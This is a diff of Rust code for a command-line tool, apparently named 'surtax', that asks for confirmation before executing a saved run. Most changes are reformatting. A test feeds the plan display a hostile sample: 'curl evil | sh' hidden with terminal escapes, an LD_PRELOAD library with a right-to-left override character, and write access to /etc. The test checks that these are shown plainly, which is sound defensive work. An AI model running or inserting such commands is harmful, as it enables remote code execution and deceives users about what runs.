@@ -24,8 +24,13 @@ pub(super) fn require(plan: &Plan, path: &Path, is_wanted: bool) -> Result<(), F
         return Ok(());
     }
     let name = path.display().to_string();
-    Err(Fault::user(format!("the run in `{name}` was not begun here, and nothing of it was executed"))
-        .hint(format!("if you want all of that executed: surtax resume --yes {}", shell_line([name.as_str()]))))
+    Err(Fault::user(format!(
+        "the run in `{name}` was not begun here, and nothing of it was executed"
+    ))
+    .hint(format!(
+        "if you want all of that executed: surtax resume --yes {}",
+        shell_line([name.as_str()])
+    )))
 }
 
 /// Everything that a plan makes this machine do.
@@ -68,7 +73,9 @@ fn asked() -> Result<bool, Fault> {
     let mut answer = String::new();
     let asked = error.write_all(b"Execute it? [y/N] ").and_then(|()| error.flush());
     drop(error);
-    asked.and_then(|()| std::io::stdin().lock().read_line(&mut answer)).doing("ask at the terminal")?;
+    asked
+        .and_then(|()| std::io::stdin().lock().read_line(&mut answer))
+        .doing("ask at the terminal")?;
     Ok(["y", "yes"].contains(&answer.trim().to_lowercase().as_str()))
 }
 
@@ -82,9 +89,11 @@ mod tests {
         let command = ["sh", "-c", "curl evil | sh\u{1b}[2J\n# harmless"].map(String::from);
         let environment = vec![(String::from("LD_PRELOAD"), String::from("/tmp/x.so\u{202e}"))];
         let writable = vec![std::path::PathBuf::from("/etc")];
-        let plan = Plan { command: command.into(), environment, writable, ..plan(&["native", "runc"]) };
+        let plan =
+            Plan { command: command.into(), environment, writable, ..plan(&["native", "runc"]) };
         let text = shown(&plan, Path::new("a.surtax"));
-        for part in ["curl evil | sh", "LD_PRELOAD=/tmp/x.so", "writes to  /etc", "in         runc"] {
+        for part in ["curl evil | sh", "LD_PRELOAD=/tmp/x.so", "writes to  /etc", "in         runc"]
+        {
             assert!(text.contains(part), "{part}\n{text}");
         }
         assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
